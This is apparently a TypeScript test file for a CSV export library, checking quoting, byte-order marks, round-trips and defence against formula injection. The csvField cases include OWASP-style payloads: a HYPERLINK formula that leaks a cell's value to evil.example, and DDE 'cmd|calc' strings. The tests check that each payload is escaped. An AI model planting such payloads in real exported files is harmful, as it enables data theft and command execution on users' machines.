import { expect } from '@open-wc/testing';
import { sourcesFromCsv, trendFromCsv } from '../../src/core/csv.js';
import { csvField, sourcesTable, tableOf, trendTable, writeCsv, type CsvCell } from '../../src/core/csv-write.js';
import { parseSources } from '../../src/schema/comparison.js';
import type { Parsed } from '../../src/schema/issues.js';
import { parseTrendData } from '../../src/schema/trend.js';
import { illustrativeMonthly, twoSeries } from '../../fixtures/trend.js';
import { firstDays } from '../../fixtures/seed.js';
import { withReference } from '../../fixtures/comparison.js';

function ok<T>(p: Parsed<T>): T {
  if (!p.ok) throw new Error(JSON.stringify(p.issues));
  return p.value;
}

describe('csvField', () => {
  const cases: [CsvCell, string][] = [
    [null, ''],
    [undefined, ''],
    [0, '0'],
    [1234.5, '1234.5'],
    [Number.NaN, ''],
    [Number.POSITIVE_INFINITY, ''],
    ['plain', 'plain'],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    [' padded', '" padded"'],
    ['مرصد', 'مرصد'],
    // Formula injection (OWASP's classic payloads): a leading apostrophe, then quoting as needed.
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+cmd|calc', "'+1+cmd|calc"],
    ['-2+3+cmd|calc', "'-2+3+cmd|calc"],
    ['-', "'-"],
    ['@SUM(1+1)*cmd|calc', "'@SUM(1+1)*cmd|calc"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['a=1', 'a=1'],
  ];
  for (const [input, want] of cases) {
    it(`${JSON.stringify(input)} → ${JSON.stringify(want)}`, () => {
      expect(csvField(input)).to.equal(want);
    });
  }
});

describe('writeCsv', () => {
  it('starts with a byte-order mark, ends lines with CRLF', () => {
    expect(writeCsv({ header: ['a', 'b'], rows: [[1, 'x']] })).to.equal('\ufeffa,b\r\n1,x\r\n');
    expect(writeCsv({ header: ['a'], rows: [] }, false)).to.equal('a\r\n');
  });

  it('writes every trend field: series, date, value, low, high, status, note (gaps empty)', () => {
    const parsed = ok(parseTrendData(firstDays));
    const t = trendTable(parsed);
    expect(t.header).to.deep.equal(['series', 'date', 'value', 'low', 'high', 'status', 'note']);
    expect(t.rows.map((r) => r.slice(1))).to.deep.equal([
      ['2017-06-02', 12, null, null, 'unverified', 'local sources; not confirmed'],
      ['2017-06-03', null, null, null, null, null],
      ['2017-06-04', null, null, null, null, null],
      ['2017-06-05', 21, null, null, 'reported', 'SOHR and Syrian state media'],
    ]);
  });

  it('writes the data as given: periods the chart filled as gaps are not rows', () => {
    const parsed = ok(
      parseTrendData([
        { date: '2017-01', value: 5 },
        { date: '2017-04', value: 9 },
      ]),
    );
    // The chart draws February–March as a gap…
    expect(parsed.series[0]!.points.some((p) => p.filled)).to.equal(true);
    // …but the file holds only what the editor gave.
    expect(trendTable(parsed).rows.map((r) => r[1])).to.deep.equal(['2017-01', '2017-04']);
  });

  it('writes every source field in input order, retrieved as an ISO date', () => {
    const sources = ok(parseSources([...withReference, { name: 'SOHR', value: 21, retrieved: '2017-06-06', note: '-' }]));
    const t = sourcesTable(sources);
    expect(t.header).to.deep.equal(['name', 'value', 'low', 'high', 'kind', 'status', 'url', 'retrieved', 'note']);
    expect(t.rows[1]).to.deep.equal([
      'Monitor A (illustrative)',
      null,
      220,
      300,
      'monitor',
      'estimate',
      'https://example.org/a',
      null,
      null,
    ]);
    expect(t.rows[5]).to.deep.equal(['SOHR', 21, null, null, null, null, null, '2017-06-06', '-']);
    expect(writeCsv(t).split('\r\n')[6]).to.equal("SOHR,21,,,,,,2017-06-06,'-");
  });

  for (const [name, input] of [
    ['one series', illustrativeMonthly],
    ['gaps', firstDays],
    ['two series', twoSeries],
  ] as const) {
    it(`round-trips through the library's CSV reader: trend, ${name}`, () => {
      const data = ok(parseTrendData(input));
      const back = trendFromCsv(writeCsv(tableOf({ trend: data })));
      expect(back.problems).to.deep.equal([]);
      const again = ok(parseTrendData(back.data));
      expect(again.series.map((s) => s.points)).to.deep.equal(data.series.map((s) => s.points));
    });
  }

  it("round-trips through the library's CSV reader: sources", () => {
    const sources = ok(parseSources(withReference));
    const back = sourcesFromCsv(writeCsv(tableOf({ sources })));
    expect(back.problems).to.deep.equal([]);
    expect(ok(parseSources(back.data))).to.deep.equal(sources);
  });
});
